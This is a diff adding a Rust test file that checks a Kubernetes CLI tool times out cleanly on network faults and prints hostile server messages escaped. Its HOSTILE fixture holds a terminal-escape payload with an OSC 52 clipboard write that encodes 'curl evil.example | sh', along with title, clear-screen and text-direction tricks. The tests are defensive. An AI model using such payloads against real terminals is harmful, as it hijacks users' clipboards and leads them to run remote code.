@@ -1,0 +1,243 @@
+//! Network faults and hostile answers: every command ends with exit 2
+//! inside its deadline, and what the server says reaches the terminal inert.
+
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::time::Duration;
+
+use crate::fake::{self, Fake};
+use crate::{run, scratch, token_kubeconfig};
+
+/// What an attacker puts in a message: a clipboard write (OSC 52), a window
+/// title, clear screen, a right-to-left override, a Hangul filler, a C1 CSI.
+pub const HOSTILE: &str = "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}\u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}[H\u{202e}txt.exe\u{3164}\u{9b}31m\u{200b}end";
+/// How the clipboard write must show once escaped.
+const SHOWN: &str = r"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07";
+
+/// Commands that talk to the server, each with `--request-timeout 1s`.
+const COMMANDS: &[&[&str]] = &[
+    &["status", "pods/p"],
+    &["tree", "pods/p"],
+    &["why", "pods/p"],
+    &["status"],
+    &["wait", "pods/p", "--timeout", "3s"],
+];
+
+/// Each command against `server` ends with exit 2 within `bound`.
+fn each_fails_in_time(server: &Fake, bound: Duration) -> Vec<String> {
+    let dir = scratch();
+    let kc = token_kubeconfig(dir.path(), &server.url());
+    let mut errors = Vec::new();
+    for cmd in COMMANDS {
+        let mut args = cmd.to_vec();
+        args.extend([
+            "--kubeconfig",
+            kc.to_str().unwrap(),
+            "--request-timeout",
+            "1s",
+        ]);
+        let out = run(dir.path(), &args, Duration::from_secs(30));
+        out.assert(2, bound);
+        assert!(
+            out.stderr.starts_with("error: "),
+            "{args:?}: {}",
+            out.stderr
+        );
+        errors.push(out.stderr.clone());
+    }
+    errors
+}
+
+/// `--version` against `server`: exit 0 within its two seconds and a bit.
+fn version_in_time(server: &Fake) -> String {
+    let dir = scratch();
+    let kc = token_kubeconfig(dir.path(), &server.url());
+    let out = run(
+        dir.path(),
+        &["--version", "--kubeconfig", kc.to_str().unwrap()],
+        Duration::from_secs(30),
+    );
+    out.assert(0, Duration::from_secs(4));
+    out.stdout.clone()
+}
+
+#[test]
+fn a_listener_that_never_answers() {
+    let server = fake::silent();
+    for err in each_fails_in_time(&server, Duration::from_secs(6)) {
+        assert!(err.contains("did not answer in time"), "{err}");
+    }
+    assert!(version_in_time(&server).contains("Server Version: unknown"));
+}
+
+#[test]
+fn a_tls_handshake_that_never_finishes() {
+    // The listener takes the connection and never answers the ClientHello.
+    let server = fake::silent();
+    let dir = scratch();
+    let kc = token_kubeconfig(dir.path(), &format!("https://127.0.0.1:{}", server.port));
+    for cmd in COMMANDS {
+        let mut args = cmd.to_vec();
+        args.extend([
+            "--kubeconfig",
+            kc.to_str().unwrap(),
+            "--request-timeout",
+            "1s",
+        ]);
+        let out = run(dir.path(), &args, Duration::from_secs(30));
+        out.assert(2, Duration::from_secs(6));
+        assert!(
+            out.stderr.starts_with("error: "),
+            "{args:?}: {}",
+            out.stderr
+        );
+    }
+}
+
+#[test]
+fn a_server_that_sends_headers_then_stalls() {
+    let server = fake::stalls_after_headers();
+    each_fails_in_time(&server, Duration::from_secs(6));
+    assert!(version_in_time(&server).contains("Server Version: unknown"));
+}
+
+#[test]
+fn a_closed_port() {
+    let port = std::net::TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port();
+    let server = Fake {
+        port,
+        seen: Arc::default(),
+    };
+    for err in each_fails_in_time(&server, Duration::from_secs(3)) {
+        assert!(err.contains("cannot reach the API server"), "{err}");
+    }
+}
+
+#[test]
+fn error_messages_and_the_version_from_the_server_are_inert() {
+    let server = fake::answering(|path| {
+        Some(if path.starts_with("/version") {
+            (
+                200,
+                serde_json::json!({"gitVersion": format!("v1.36.0{HOSTILE}")}).to_string(),
+            )
+        } else {
+            (500, fake::status(500, "InternalError", HOSTILE))
+        })
+    });
+    for err in each_fails_in_time(&server, Duration::from_secs(6)) {
+        assert!(err.contains(SHOWN), "the message is shown, escaped: {err}");
+    }
+    let version = version_in_time(&server);
+    assert!(
+        version.contains(&format!("Server Version: v1.36.0{SHOWN}")),
+        "{version}"
+    );
+}
+
+#[test]
+fn a_failing_conversion_webhook_is_reported_inert() {
+    let message = format!(
+        "conversion webhook for example.com/v2, Kind=Widget failed: Post \"https://widgets.example.svc:443/convert?timeout=30s\": {HOSTILE}"
+    );
+    let server = fake::answering(move |path| {
+        Some(match fake::discovery(path) {
+            Some(doc) => (200, doc),
+            None => (500, fake::status(500, "InternalError", &message)),
+        })
+    });
+    let dir = scratch();
+    let kc = token_kubeconfig(dir.path(), &server.url());
+    for args in [
+        ["status", "widgets/w"],
+        ["tree", "widgets/w"],
+        ["why", "widgets/w"],
+    ] {
+        let mut args = args.to_vec();
+        args.extend(["--kubeconfig", kc.to_str().unwrap()]);
+        let out = run(dir.path(), &args, Duration::from_secs(30));
+        out.assert(2, Duration::from_secs(5));
+        assert!(out.stderr.contains("conversion webhook"), "{}", out.stderr);
+        assert!(out.stderr.contains(SHOWN), "{}", out.stderr);
+    }
+}
+
+/// A Widget that is not ready yet, as a controller would leave it.
+fn widget() -> serde_json::Value {
+    serde_json::json!({
+        "apiVersion": "example.com/v1", "kind": "Widget",
+        "metadata": {"name": "w", "namespace": "default", "uid": "u-w", "resourceVersion": "7",
+                     "generation": 1, "creationTimestamp": "2026-01-01T00:00:00Z"},
+        "status": {"observedGeneration": 1, "conditions": [{"type": "Ready", "status": "False",
+                   "reason": "Provisioning", "message": "waiting for capacity",
+                   "lastTransitionTime": "2026-01-01T00:00:00Z"}]}
+    })
+}
+
+#[test]
+fn wait_timeout_is_a_hard_deadline_when_the_server_hangs() {
+    // The server answers the first reads, then hangs from the first watch:
+    // neither the wait nor the diagnosis after it may outlive --timeout.
+    let hung = Arc::new(AtomicBool::new(false));
+    let flag = hung.clone();
+    let server = fake::answering(move |path| {
+        if path.contains("watch=") {
+            flag.store(true, Ordering::SeqCst);
+        }
+        if flag.load(Ordering::SeqCst) {
+            return None;
+        }
+        if let Some(doc) = fake::discovery(path) {
+            return Some((200, doc));
+        }
+        let path = path.split('?').next().unwrap();
+        Some(if path.ends_with("/widgets/w") {
+            (200, widget().to_string())
+        } else {
+            let kind = if path.ends_with("/widgets") {
+                "WidgetList"
+            } else {
+                "List"
+            };
+            let items = if path.ends_with("/widgets") {
+                vec![widget()]
+            } else {
+                vec![]
+            };
+            (200, serde_json::json!({"kind": kind, "apiVersion": "v1", "metadata": {"resourceVersion": "7"}, "items": items}).to_string())
+        })
+    });
+    let dir = scratch();
+    let kc = token_kubeconfig(dir.path(), &server.url());
+    let out = run(
+        dir.path(),
+        &[
+            "wait",
+            "widgets/w",
+            "--timeout",
+            "3s",
+            "--kubeconfig",
+            kc.to_str().unwrap(),
+        ],
+        Duration::from_secs(30),
+    );
+    // 3s, and a little for starting and ending the process; before, the
+    // diagnosis after the timeout waited out a whole request timeout.
+    out.assert(1, Duration::from_millis(4500));
+    assert!(hung.load(Ordering::SeqCst), "the watch was opened");
+    assert!(
+        out.stderr
+            .contains("error: timed out after 3s waiting for Widget/w"),
+        "{}",
+        out.stderr
+    );
+    assert!(
+        out.stdout.contains("not read before --timeout"),
+        "{}",
+        out.stdout
+    );
+}
